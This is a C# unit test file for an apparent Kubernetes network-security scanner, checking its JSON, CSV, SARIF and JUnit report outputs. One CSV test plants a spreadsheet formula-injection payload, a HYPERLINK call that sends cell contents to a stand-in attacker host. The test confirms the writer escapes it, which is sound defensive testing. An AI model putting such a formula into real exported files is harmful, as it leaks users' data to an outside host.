using System.Text;
using System.Text.Json;
using System.Xml.Linq;
using NetSecPS.Reports.Json;

namespace NetSecPS.Reports.Tests;

public class JsonReportTests
{
    [Fact]
    public void The_json_report_is_the_whole_scan_in_camel_case_with_enums_as_names()
    {
        var scan = SampleScan.Create();
        var path = TestFiles.Write(scan, "sample.json");
        using var doc = JsonDocument.Parse(File.ReadAllBytes(path));
        var root = doc.RootElement;
        Assert.Equal("netsecps.scanresult", root.GetProperty("schema").GetString());
        Assert.Equal(1, root.GetProperty("schemaVersion").GetInt32());
        Assert.Equal("demo-eu-west-1", root.GetProperty("provenance").GetProperty("cluster").GetString());
        Assert.Equal(scan.Findings.Count, root.GetProperty("findings").GetArrayLength());
        Assert.Equal("Critical", root.GetProperty("findings")[0].GetProperty("severity").GetString());
        Assert.Equal("Forbidden", root.GetProperty("coverage")[3].GetProperty("status").GetString());
        Assert.Equal("Flow", root.GetProperty("drift")[0].GetProperty("category").GetString());
        Assert.Equal("Warning", root.GetProperty("diagnostics")[0].GetProperty("severity").GetString());
        Assert.False(root.TryGetProperty("snapshot", out _));
        Assert.Equal(new[] { "Namespace", "NetworkPolicy", "Pod", "Service" }, root.GetProperty("inventory").EnumerateObject().Select(p => p.Name));
    }

    [Fact]
    public void The_json_report_reads_back_into_the_same_scan()
    {
        var scan = SampleScan.Create();
        using var stream = new MemoryStream();
        ScanResultJson.Write(scan, stream);
        stream.Position = 0;
        var back = ScanResultJson.Read(stream);
        Assert.Equal(scan.Findings.Select(f => (f.CheckId, f.Resource, f.Suppressed, f.Evidence, f.RemediationManifest, f.SourceLine)), back.Findings.Select(f => (f.CheckId, f.Resource, f.Suppressed, f.Evidence, f.RemediationManifest, f.SourceLine)));
        Assert.Equal((scan.Score.Score, scan.Score.Band, scan.Score.Formula, scan.Score.Version, scan.Score.Checks.Count), (back.Score.Score, back.Score.Band, back.Score.Formula, back.Score.Version, back.Score.Checks.Count));
        Assert.Equal(scan.ClusterName, back.ClusterName);
        Assert.Equal(scan.Coverage, back.Coverage);
        Assert.Equal(scan.Drift, back.Drift);
        Assert.Equal(scan.Diagnostics, back.Diagnostics);
        Assert.Equal(scan.History, back.History);
        Assert.Equal(scan.Workloads.Select(w => w.Peer), back.Workloads.Select(w => w.Peer));
        Assert.Equal(scan.ScannedAt, back.ScannedAt);
    }

    [Fact]
    public void Writing_the_same_scan_twice_gives_the_same_bytes()
    {
        var a = new MemoryStream();
        var b = new MemoryStream();
        ScanResultJson.Write(SampleScan.Create(), a);
        ScanResultJson.Write(SampleScan.Create(), b);
        Assert.Equal(a.ToArray(), b.ToArray());
    }
}

public class CsvReportTests
{
    [Fact]
    public void Csv_quotes_commas_quotes_and_line_breaks_so_every_field_reads_back()
    {
        var scan = SampleScan.Create();
        var path = TestFiles.Write(scan, "sample.csv");
        var bytes = File.ReadAllBytes(path);
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
        Assert.EndsWith("\r\n", text, StringComparison.Ordinal);

        var records = ParseRfc4180(text);
        Assert.Equal(Csv.FindingsCsv.Header, records[0]);
        Assert.Equal(scan.Findings.Count + 1, records.Count);
        Assert.All(records, r => Assert.Equal(Csv.FindingsCsv.Header.Length, r.Length));
        for (var i = 0; i < scan.Findings.Count; i++)
        {
            var f = scan.Findings[i];
            var r = records[i + 1];
            Assert.Equal(f.CheckId, r[0]);
            Assert.Equal(f.Resource, r[4]);
            // Text a spreadsheet would run as a formula gets a leading apostrophe (see the test below).
            Assert.Equal(f.Evidence.Length > 0 && "=+-@\t\r".Contains(f.Evidence[0]) ? "'" + f.Evidence : f.Evidence, r[5]);
            Assert.Equal(f.RemediationManifest ?? string.Empty, r[7]);
            Assert.Equal(string.Join("; ", f.Frameworks), r[8]);
            Assert.Equal(f.Suppressed ? "true" : "false", r[9]);
            Assert.Equal(f.SourceLine?.ToString(System.Globalization.CultureInfo.InvariantCulture) ?? string.Empty, r[14]);
        }

        // The evidence with a comma, quotes and a line break is quoted with doubled quotes.
        Assert.Contains("\"payments/api[Deployment] may connect to 0.0.0.0-9.255.255.255[External], \"\"TCP 443\"\", and\nevery pod in the cluster.\"", text);
    }

    [Fact]
    public void Text_a_spreadsheet_would_run_as_a_formula_is_written_as_text()
    {
        var scan = SampleScan.Create();
        var planted = scan.Findings[0] with { Justification = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"details\")", SuppressedBy = "@SUM(1+1)", Evidence = "-2+3" };
        scan = new ScanResult
        {
            Provenance = scan.Provenance, Profile = scan.Profile, Score = scan.Score, Checks = scan.Checks,
            Findings = new[] { planted }.Concat(scan.Findings.Skip(1)).ToList(),
        };
        var path = TestFiles.Write(scan, "injection.csv");
        var records = ParseRfc4180(Encoding.UTF8.GetString(File.ReadAllBytes(path)[3..]));
        var row = records[1];
        Assert.Equal("'=HYPERLINK(\"http://attacker.example/?\"&A1,\"details\")", row[10]);
        Assert.Equal("'@SUM(1+1)", row[11]);
        Assert.Equal("'-2+3", row[5]);
        Assert.Equal(planted.CheckId, row[0]);
    }

    /// <summary>A strict RFC 4180 reader: fields separated by commas, records by CRLF, quoted fields may hold anything.</summary>
    private static List<string[]> ParseRfc4180(string text)
    {
        var records = new List<string[]>();
        var fields = new List<string>();
        var field = new StringBuilder();
        var i = 0;
        while (i < text.Length)
        {
            if (text[i] == '"' && field.Length == 0)
            {
                i++;
                while (true)
                {
                    if (text[i] == '"' && i + 1 < text.Length && text[i + 1] == '"')
                    {
                        field.Append('"');
                        i += 2;
                    }
                    else if (text[i] == '"')
                    {
                        i++;
                        break;
                    }
                    else
                    {
                        field.Append(text[i++]);
                    }
                }
            }
            else if (text[i] == ',')
            {
                fields.Add(field.ToString());
                field.Clear();
                i++;
            }
            else if (text[i] == '\r' && text[i + 1] == '\n')
            {
                fields.Add(field.ToString());
                field.Clear();
                records.Add(fields.ToArray());
                fields.Clear();
                i += 2;
            }
            else
            {
                Assert.NotEqual('"', text[i]);
                Assert.NotEqual('\n', text[i]);
                field.Append(text[i++]);
            }
        }

        return records;
    }
}

public class SarifReportTests
{
    private static readonly string[] Levels = { "none", "note", "warning", "error" };

    [Fact]
    public void Sarif_has_every_required_property_one_rule_per_check_and_one_result_per_finding()
    {
        var scan = SampleScan.Create();
        var path = TestFiles.Write(scan, "sample.sarif");
        using var doc = JsonDocument.Parse(File.ReadAllBytes(path));
        var root = doc.RootElement;
        Assert.Equal("2.1.0", root.GetProperty("version").GetString());
        Assert.StartsWith("https://", root.GetProperty("$schema").GetString(), StringComparison.Ordinal);
        var run = Assert.Single(root.GetProperty("runs").EnumerateArray());
        var driver = run.GetProperty("tool").GetProperty("driver");
        Assert.Equal("NetSecPS", driver.GetProperty("name").GetString());

        var rules = driver.GetProperty("rules").EnumerateArray().ToList();
        var ids = rules.Select(r => r.GetProperty("id").GetString()!).ToList();
        Assert.Equal(scan.Checks.Select(c => c.Id).OrderBy(x => x, StringComparer.Ordinal), ids.OrderBy(x => x, StringComparer.Ordinal));
        Assert.All(rules, r =>
        {
            Assert.False(string.IsNullOrEmpty(r.GetProperty("shortDescription").GetProperty("text").GetString()));
            Assert.Contains(r.GetProperty("defaultConfiguration").GetProperty("level").GetString(), Levels);
        });

        var results = run.GetProperty("results").EnumerateArray().ToList();
        Assert.Equal(scan.Findings.Count, results.Count);
        for (var i = 0; i < results.Count; i++)
        {
            var r = results[i];
            var f = scan.Findings[i];
            Assert.Equal(f.CheckId, r.GetProperty("ruleId").GetString());
            Assert.Equal(f.CheckId, ids[r.GetProperty("ruleIndex").GetInt32()]);
            Assert.False(string.IsNullOrEmpty(r.GetProperty("message").GetProperty("text").GetString()));
            Assert.Equal(f.Severity switch { Severity.Critical or Severity.High => "error", Severity.Medium => "warning", _ => "note" }, r.GetProperty("level").GetString());
            var location = Assert.Single(r.GetProperty("locations").EnumerateArray());
            Assert.Equal(f.Resource, location.GetProperty("logicalLocations")[0].GetProperty("fullyQualifiedName").GetString());
            if (f.SourceFile is not null)
            {
                var physical = location.GetProperty("physicalLocation");
                Assert.Equal(f.SourceFile, physical.GetProperty("artifactLocation").GetProperty("uri").GetString());
                Assert.Equal(f.SourceLine, physical.GetProperty("region").GetProperty("startLine").GetInt32());
            }
            else
            {
                Assert.False(location.TryGetProperty("physicalLocation", out _));
            }

            if (f.Suppressed)
            {
                var s = Assert.Single(r.GetProperty("suppressions").EnumerateArray());
                Assert.Contains(s.GetProperty("kind").GetString(), new[] { "inSource", "external" });
                Assert.Equal(f.Justification, s.GetProperty("justification").GetString());
            }
            else
            {
                Assert.False(r.TryGetProperty("suppressions", out _));
            }
        }
    }

    [Fact]
    public void A_check_that_could_not_be_evaluated_is_a_notification_of_the_run()
    {
        using var stream = new MemoryStream();
        ReportWriter.Write(SampleScan.Create(), ReportFormat.Sarif, stream);
        using var doc = JsonDocument.Parse(stream.ToArray());
        var note = Assert.Single(doc.RootElement.GetProperty("runs")[0].GetProperty("invocations")[0].GetProperty("toolExecutionNotifications").EnumerateArray());
        Assert.Equal("RBAC-002", note.GetProperty("descriptor").GetProperty("id").GetString());
        Assert.StartsWith("RBAC-002 was not evaluated: ClusterRoleBinding could not be read", note.GetProperty("message").GetProperty("text").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public void Absolute_manifest_paths_under_the_source_root_become_relative_uris()
    {
        var root = Path.Combine(Path.GetTempPath(), "netsecps-repo");
        var scan = SampleScan.Create();
        var findings = scan.Findings.Select(f => f.SourceFile is null ? f : f with { SourceFile = Path.Combine(root, f.SourceFile) }).ToArray();
        using var stream = new MemoryStream();
        ReportWriter.Write(ExcelReportTests.WithFindings(scan, findings), ReportFormat.Sarif, stream, new ReportOptions { SourceRoot = root });
        using var doc = JsonDocument.Parse(stream.ToArray());
        var run = doc.RootElement.GetProperty("runs")[0];
        Assert.Equal(new Uri(root + Path.DirectorySeparatorChar).AbsoluteUri, run.GetProperty("originalUriBaseIds").GetProperty("SRCROOT").GetProperty("uri").GetString());
        var artifact = run.GetProperty("results").EnumerateArray()
            .Select(r => r.GetProperty("locations")[0]).Where(l => l.TryGetProperty("physicalLocation", out _))
            .Select(l => l.GetProperty("physicalLocation").GetProperty("artifactLocation")).First();
        Assert.Equal("manifests/shop/policies.yaml", artifact.GetProperty("uri").GetString());
        Assert.Equal("SRCROOT", artifact.GetProperty("uriBaseId").GetString());
    }
}

public class JUnitReportTests
{
    [Fact]
    public void JUnit_has_one_case_per_check_and_resource_failing_open_findings_and_skipping_suppressed_ones()
    {
        var scan = SampleScan.Create(extraFindings: 12);
        var path = TestFiles.Write(scan, "sample.junit.xml");
        var doc = XDocument.Load(path);
        var suitesElement = doc.Root!;
        Assert.Equal("testsuites", suitesElement.Name.LocalName);
        var suites = suitesElement.Elements("testsuite").ToList();
        Assert.Equal(scan.Checks.Count, suites.Count);

        foreach (var suite in suites)
        {
            foreach (var attr in new[] { "name", "tests", "failures", "errors", "skipped", "time", "timestamp", "hostname", "id", "package" })
            {
                Assert.NotNull(suite.Attribute(attr));
            }

            var cases = suite.Elements("testcase").ToList();
            Assert.NotEmpty(cases);
            Assert.Equal(cases.Count, (int)suite.Attribute("tests")!);
            Assert.Equal(cases.Count(c => c.Element("failure") is not null), (int)suite.Attribute("failures")!);
            Assert.Equal(cases.Count(c => c.Element("skipped") is not null), (int)suite.Attribute("skipped")!);
            Assert.All(cases, c =>
            {
                Assert.False(string.IsNullOrEmpty((string?)c.Attribute("name")));
                Assert.False(string.IsNullOrEmpty((string?)c.Attribute("classname")));
                Assert.NotNull(c.Attribute("time"));
            });
        }

        var all = suites.SelectMany(s => s.Elements("testcase")).ToList();
        Assert.Equal(all.Count, (int)suitesElement.Attribute("tests")!);
        var open = scan.Findings.Where(f => !f.Suppressed).Select(f => (f.CheckId, f.Resource)).Distinct().Count();
        var suppressedOnly = scan.Findings.GroupBy(f => (f.CheckId, f.Resource)).Count(g => g.All(f => f.Suppressed));
        Assert.Equal(open, (int)suitesElement.Attribute("failures")!);
        Assert.Equal(suppressedOnly + scan.NotEvaluated.Count, (int)suitesElement.Attribute("skipped")!);

        var legacy = all.Single(c => (string?)c.Attribute("name") == "Namespace/legacy");
        Assert.Equal("NetSecPS.NP-001", (string?)legacy.Attribute("classname"));
        Assert.Contains("Isolated by the VPC firewall", (string?)legacy.Element("skipped")!.Attribute("message"), StringComparison.Ordinal);
        var shop = all.Single(c => (string?)c.Attribute("name") == "Namespace/shop" && (string?)c.Attribute("classname") == "NetSecPS.NP-001");
        Assert.Contains("kind: NetworkPolicy", shop.Element("failure")!.Value, StringComparison.Ordinal);

        var externalIps = suites.Single(s => ((string)s.Attribute("name")!).StartsWith("EX-003", StringComparison.Ordinal));
        var pass = Assert.Single(externalIps.Elements("testcase"));
        Assert.Empty(pass.Elements());

        // A check the scan could not decide is skipped with its reason, never counted as a pass.
        var rbac = suites.Single(s => ((string)s.Attribute("name")!).StartsWith("RBAC-002", StringComparison.Ordinal));
        var unknown = Assert.Single(rbac.Elements("testcase"));
        Assert.StartsWith("Not evaluated: ClusterRoleBinding could not be read", (string?)unknown.Element("skipped")!.Attribute("message"), StringComparison.Ordinal);
    }

    [Fact]
    public void Characters_xml_cannot_carry_are_dropped_instead_of_breaking_the_file()
    {
        var scan = SampleScan.Create();
        var bad = scan.Findings[0] with { Evidence = "bell\u0007 and a lone surrogate \uD800 here" };
        using var stream = new MemoryStream();
        ReportWriter.Write(ExcelReportTests.WithFindings(scan, new[] { bad }), ReportFormat.JUnit, stream);
        stream.Position = 0;
        var doc = XDocument.Load(stream);
        Assert.Contains("bell and a lone surrogate  here", doc.Descendants("failure").Single().Value, StringComparison.Ordinal);
    }
}
